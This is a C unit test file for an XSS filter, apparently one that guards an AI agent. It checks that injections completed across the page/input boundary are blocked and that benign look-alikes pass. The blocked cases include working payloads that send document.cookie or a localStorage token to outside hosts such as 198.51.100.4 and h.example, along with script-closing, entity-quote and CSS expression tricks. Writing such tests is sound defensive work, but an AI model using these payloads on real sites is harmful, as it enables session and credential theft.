/* xss21 (session 33): a script, markup or style token that the page's
 * last bytes before an input and the input's first bytes make together
 * (review24s: a template literal's "$" from the page and "{" from the
 * input is the substitution ${...}, which runs). The input did not write
 * the whole opener, but it chose what the opener becomes: "$" then "{" is
 * code, "<" then "/script" ends the script element, "<" then "object" is
 * an element, "<!" then "--" a comment hiding the page's markup, and an
 * input's last backslash escapes the page's closing quote. Pages of our
 * own; twins of the same shapes (a price's "$" before a brace in text and
 * in a ' or " string, a "<" before a digit) stay allowed.
 */
#include "agent_xss_test.h"

static void a_substitution_opened_by_the_pages_dollar_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<script>const line = `Montant : $", "{fetch('//198.51.100.4/c?'+document.cookie)}",
	     " EUR`;</script>"},
	    {"<script>\nlabel.textContent = `Preis $",
	     "{top.location='//h.example/'+localStorage.token}", "`;\n</script>"},
	    {"<button onclick=\"notify(`Saldo: $", "{alert(document.domain)}", "`)\">ok</button>"},
	    {"<a href=\"#\" onmouseover='tip(`cost $",
	     "{new Image().src=\"//x.example/\"+document.cookie}", "`)'>?</a>"},
	    {"<svg><script>msg = `Total $", "{eval(name)}", "`</script></svg>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void a_dollar_then_a_brace_outside_a_template_is_allowed(void **state)
{
	static const char *const pages[][3] = {
	    {"<p>Total: $", "{12.50}", "</p>"},
	    {"<td>Budget $", "{approx. 300}", "</td>"},
	    {"<script>var s = \"Total: $", "{amount}", "\";</script>"},
	    {"<script>var t = 'Kosten: $", "{ 5 }", "';</script>"},
	    {"<button onclick=\"say('Prix $", "{10}", "')\">x</button>"},
	    {"<script>var s = `Total: $", "12.50 (tax {incl.})", "`;</script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

static void markup_opened_by_the_pages_lt_fires(void **state)
{
	static const char *const pages[][3] = {
	    /* the input ends the raw-text element the page's "<" began */
	    {"<script>var few = count <", "/script><p>done</p>", "</script>"},
	    {"<script>if (a <", "/SCRIPT >", " 3) go();</script>"},
	    {"<textarea>size <", "/textarea><p>x", "</textarea>"},
	    {"<title>Rang <", "/title><base href=//h.example/>", "</title>"},
	    /* the input names the element the page's "<" began */
	    {"<p>Score: 5 <", "script>alert(document.domain)//", "</p>"},
	    {"<div>a <", "object data=//198.51.100.4/x.swf>", "</div>"},
	    {"<li>b <", "iframe name=x>", "</li>"},
	    /* the input completes the comment opener */
	    {"<p>Wow<!", "-- hidden", "</p><p>more</p><img src=/a.png>"},
	    {"<div>x <!-", "- keep", "</div><form action=/pay>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void a_lt_before_text_is_allowed(void **state)
{
	static const char *const pages[][3] = {
	    {"<p>x <", "3 and y > 2", "</p>"},
	    {"<p>Preis <", " 20 &euro;", "</p>"},
	    {"<script>var s = \"<", "/div>", "\";</script>"},
	    {"<p>Tom <", "/b> & Jerry", "</p>"},
	    {"<p>a <", "= b, c >= d", "</p>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

static void a_backslash_escaping_the_pages_quote_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<script>var name = \"", "Ann\\", "\"; var next = \"x\";</script>"},
	    {"<script>var dir = 'C:\\\\Temp\\\\", "new\\", "', user = 'bob';</script>"},
	    {"<div onclick=\"go('", "Ulrike\\", "', 'start')\">go</div>"},
	    {"<script>t = `", "a\\", "`; u = `b`;</script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void an_escape_inside_the_input_is_allowed(void **state)
{
	static const char *const pages[][3] = {
	    {"<script>var path = \"", "C:\\\\Temp\\\\new", "\";</script>"},
	    {"<script>var t = '", "l\\u00e9ger, l\\x27ami", "';</script>"},
	    {"<script>var m = \"", "Tab\\there, line\\nbreak", "\";</script>"},
	    {"<script>var dir = \"C:\\", "Users", "\";</script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

/* A handler's value and an SVG script's text are read with character
 * references decoded: the page's "&" and the input's "#39;" are a quote. */
static void a_reference_begun_by_the_pages_ampersand_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<button onclick=\"say('a&", "#39;);alert(document.cookie)//", "')\">x</button>"},
	    {"<div onmouseover=\"tip('&#3", "9;+alert(1)+&#39;", "')\">?</div>"},
	    {"<a href=\"#\" onclick=\"show(&quo", "t;x&quot;);alert(1);//", ")\">y</a>"},
	    {"<svg><script>var s = 'x&", "apos;;top.location=name//", "';</script></svg>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void an_ampersand_before_text_in_a_handler_is_allowed(void **state)
{
	static const char *const pages[][3] = {
	    {"<a href=\"#\" onclick=\"go('?page=1&", "sort=name", "')\">next</a>"},
	    {"<button onclick=\"note('Tom &", " Jerry", "')\">x</button>"},
	    {"<svg><script>var s = 'R&", "D dept", "';</script></svg>"},
	    /* references that decode to text (review25's notes) */
	    {"<button onclick=\"say('I &", "lt;3 you", "')\">x</button>"},
	    {"<button onclick=\"say('&", "nbsp;Tom", "', 1)\">x</button>"},
	    {"<a href=\"#\" onclick=\"go('/x?a=1&", "amp;b=2", "')\">y</a>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

static void css_the_input_goes_on_with_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<style>.box{width:e", "xpression(alert(document.cookie))}", "</style>"},
	    {"<style>p{-moz-", "binding:url(//h.example/x.xml#x)}", "</style>"},
	    {"<style>.a{background:url(java", "script:alert(1))}", "</style>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void a_css_word_the_input_goes_on_with_is_allowed(void **state)
{
	static const char *const pages[][3] = {
	    {"<style>h1{font-family:A", "rial, sans-serif}", "</style>"},
	    {"<style>.x{color:#", "336699; margin: 0 auto}", "</style>"},
	    {"<style>.note{content:\"e", "xpression(x) is old IE", "\"}</style>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(a_substitution_opened_by_the_pages_dollar_fires),
	    cmocka_unit_test(a_dollar_then_a_brace_outside_a_template_is_allowed),
	    cmocka_unit_test(markup_opened_by_the_pages_lt_fires),
	    cmocka_unit_test(a_lt_before_text_is_allowed),
	    cmocka_unit_test(a_backslash_escaping_the_pages_quote_fires),
	    cmocka_unit_test(an_escape_inside_the_input_is_allowed),
	    cmocka_unit_test(a_reference_begun_by_the_pages_ampersand_fires),
	    cmocka_unit_test(an_ampersand_before_text_in_a_handler_is_allowed),
	    cmocka_unit_test(css_the_input_goes_on_with_fires),
	    cmocka_unit_test(a_css_word_the_input_goes_on_with_is_allowed),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
